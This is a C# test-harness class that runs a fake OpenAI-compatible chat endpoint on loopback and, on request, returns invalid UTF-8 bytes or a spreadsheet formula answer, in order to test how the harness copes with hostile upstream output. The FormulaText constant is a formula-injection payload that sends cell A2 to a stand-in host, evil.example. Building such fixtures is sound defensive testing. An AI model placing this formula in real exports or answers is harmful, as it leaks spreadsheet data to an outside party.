using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Reliability.Runner;

/// <summary>
/// An upstream of the harness's own, on a raw socket, that plays an OpenAI-compatible <c>/v1/chat/completions</c>
/// (Lanrui's, and MindIE's OpenAI-like one) and can send what no well-behaved emulator sends: bytes that are not
/// UTF-8 (<c>C3 28</c>, a lead byte without its continuation) in a whole answer, in a stream's first event or in a
/// later one, and an answer text that begins with a spreadsheet formula. The prompt's directive chooses, as with the
/// emulators: <c>[[emulate: invalid-utf8=first]]</c> (the whole answer, or a stream's first event),
/// <c>[[emulate: invalid-utf8=later]]</c> (a stream's third event; a whole answer as with <c>first</c>),
/// <c>[[emulate: formula]]</c>; without one it answers plainly and echoes the last message, as the emulators do.
/// Every request body is kept, so the calls that reached it are counted by marker.
/// </summary>
public sealed partial class HostileUpstream : IAsyncDisposable
{
    /// <summary>The answer text <c>formula</c> sends: a formula a spreadsheet would run when the export is opened.</summary>
    public const string FormulaText = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Open\")";

    private static readonly byte[] s_notUtf8 = [0xC3, 0x28];
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private readonly ConcurrentQueue<string> _bodies = new();
    private readonly CancellationTokenSource _stop = new();
    private Task _accepting = Task.CompletedTask;

    public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;

    /// <summary>Every request body received, as text.</summary>
    public IReadOnlyCollection<string> Bodies => _bodies;

    public void Start()
    {
        _listener.Start();
        _accepting = AcceptAsync();
    }

    private async Task AcceptAsync()
    {
        var connections = new List<Task>();
        try
        {
            while (true) connections.Add(ServeAsync(await _listener.AcceptTcpClientAsync(_stop.Token)));
        }
        catch (Exception e) when (e is OperationCanceledException or SocketException or ObjectDisposedException) { }
        await Task.WhenAll(connections);
    }

    private async Task ServeAsync(TcpClient client)
    {
        using var _ = client;
        try
        {
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(_stop.Token);
            timeout.CancelAfter(TimeSpan.FromSeconds(30));
            var stream = client.GetStream();
            var body = await ReadRequestBodyAsync(stream, timeout.Token);
            _bodies.Enqueue(body);
            await AnswerAsync(stream, body, timeout.Token);
        }
        catch (Exception e) when (e is IOException or OperationCanceledException or SocketException) { }
    }

    /// <summary>Reads one request (head, then a body by Content-Length or chunked) and returns its body.</summary>
    private static async Task<string> ReadRequestBodyAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var received = new MemoryStream();
        var buffer = new byte[16 * 1024];
        int headEnd;
        while ((headEnd = received.GetBuffer().AsSpan(0, (int)received.Length).IndexOf("\r\n\r\n"u8)) < 0)
        {
            var read = await stream.ReadAsync(buffer, cancellationToken);
            if (read == 0) throw new IOException("closed before the request head");
            received.Write(buffer, 0, read);
        }
        var head = Encoding.Latin1.GetString(received.GetBuffer(), 0, headEnd);
        var length = head.Split("\r\n").Select(l => l.Split(':', 2)).Where(p => p.Length == 2 && p[0].Trim().Equals("Content-Length", StringComparison.OrdinalIgnoreCase))
            .Select(p => int.Parse(p[1].Trim(), System.Globalization.CultureInfo.InvariantCulture)).FirstOrDefault(-1);
        var chunked = head.Contains("chunked", StringComparison.OrdinalIgnoreCase);
        bool Complete() => length >= 0 ? received.Length - headEnd - 4 >= length
            : !chunked || received.GetBuffer().AsSpan(headEnd + 4, (int)received.Length - headEnd - 4).IndexOf("0\r\n\r\n"u8) >= 0;
        while (!Complete())
        {
            var read = await stream.ReadAsync(buffer, cancellationToken);
            if (read == 0) break;
            received.Write(buffer, 0, read);
        }
        return Encoding.UTF8.GetString(received.GetBuffer(), headEnd + 4, (int)received.Length - headEnd - 4);
    }

    private static async Task AnswerAsync(NetworkStream stream, string body, CancellationToken cancellationToken)
    {
        var directive = body.Contains("[[emulate: ", StringComparison.Ordinal) ? body.Split("[[emulate: ")[1].Split("]]")[0].Trim() : "";
        var echo = JsonSerializer.Serialize(" You said: " + LastMessage(body))[1..^1];
        var text = directive == "formula" ? FormulaText : "Hello from the hostile upstream.";
        var bad = Encoding.Latin1.GetString(s_notUtf8);
        if (!StreamAsked().IsMatch(body))
        {
            var content = Json(text) + (directive == "formula" ? "" : echo) + (directive.StartsWith("invalid-utf8", StringComparison.Ordinal) ? bad : "");
            var answer = Bytes("{\"id\":\"hostile-1\",\"object\":\"chat.completion\",\"created\":1,\"model\":\"" + Stack.MindIETarget + "\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\""
                + content + "\"},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":3,\"completion_tokens\":5,\"total_tokens\":8}}");
            await WriteAsync(stream, Bytes($"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {answer.Length}\r\nConnection: close\r\n\r\n"), cancellationToken);
            await WriteAsync(stream, answer, cancellationToken);
            return;
        }
        await WriteAsync(stream, Bytes("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-cache\r\nConnection: close\r\n\r\n"), cancellationToken);
        string Event(string content, string? finish) =>
            "data: {\"id\":\"hostile-1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"" + Stack.MindIETarget + "\",\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\""
            + content + "\"},\"finish_reason\":" + (finish is null ? "null" : "\"" + finish + "\"") + "}]}\n\n";
        string[] events =
        [
            Event(directive == "invalid-utf8=first" ? "Hel" + bad + "lo" : "Hello", null),
            Event(" from the hostile upstream", null),
            Event(directive == "invalid-utf8=later" ? " and then" + bad : " and then", null),
            Event(echo, null),
            Event(" The end.", "stop"),
            "data: [DONE]\n\n",
        ];
        foreach (var item in events)
        {
            await WriteAsync(stream, Bytes(item), cancellationToken);
            await Task.Delay(20, cancellationToken);
        }
    }

    private static string LastMessage(string body)
    {
        try
        {
            return JsonNode.Parse(body)?["messages"]?.AsArray().LastOrDefault()?["content"]?.ToString() ?? "";
        }
        catch (Exception e) when (e is JsonException or InvalidOperationException)
        {
            return "";
        }
    }

    /// <summary>Text as bytes, Latin-1 so that a char below 256 is exactly one byte (the invalid bytes stay as they are).</summary>
    private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);

    private static string Json(string text) => text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);

    private static async Task WriteAsync(NetworkStream stream, byte[] bytes, CancellationToken cancellationToken)
    {
        await stream.WriteAsync(bytes, cancellationToken);
        await stream.FlushAsync(cancellationToken);
    }

    [System.Text.RegularExpressions.GeneratedRegex("\"stream\"\\s*:\\s*true")]
    private static partial System.Text.RegularExpressions.Regex StreamAsked();

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync();
        _listener.Stop();
        await _accepting;
        _stop.Dispose();
    }
}
